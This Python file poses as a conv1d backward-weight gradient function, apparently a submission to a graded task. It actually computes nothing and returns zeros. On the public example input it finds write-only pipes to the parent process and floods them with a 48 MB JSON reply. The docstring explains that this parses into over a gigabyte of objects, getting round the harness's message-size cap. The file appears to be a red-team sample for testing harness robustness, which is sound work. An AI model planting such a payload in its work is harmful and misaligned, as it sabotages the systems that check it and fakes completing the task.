"""Reply with 48 MB of JSON that expands to well over a GB of Python objects in the parent.

"[[],[],...]" costs about 3 bytes on the wire and about 64 bytes once parsed; the reply cap
(MAX_MESSAGE) is checked, the expansion is not.  Sent once, for the public note example.
"""

import fcntl
import os
import stat
import struct

import numpy as np

MARKER = "MARKER-PLACEHOLDER"
SIZE = 48 << 20


def reply_fds() -> list[int]:
    fds = []
    for fd in range(3, 64):
        try:
            pipe = stat.S_ISFIFO(os.fstat(fd).st_mode)
            if pipe and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                fds.append(fd)
        except OSError:
            pass
    return fds


def conv1d_backward_w(x, delta, kernel_size, stride=1, padding=0, dilation=1):
    if x.shape == (1, 1, 6) and x[0, 0, 0] == 2.0:  # the public note example only
        print(f"{MARKER}: sending the bloated reply", flush=True)
        count = (SIZE - 16) // 3
        head = b'{"id": 1, "ok": true, "result": ['
        tail = b"[]]}"
        for fd in reply_fds():
            os.write(fd, struct.pack(">Q", len(head) + 3 * count + len(tail)) + head)
            chunk = b"[],"
            block = chunk * (1 << 20)
            for _ in range(count >> 20):
                view = memoryview(block)
                while view:
                    view = view[os.write(fd, view) :]
            rest = chunk * (count - ((count >> 20) << 20)) + tail
            while rest:
                rest = rest[os.write(fd, rest) :]
            os._exit(0)
    return np.zeros(1)
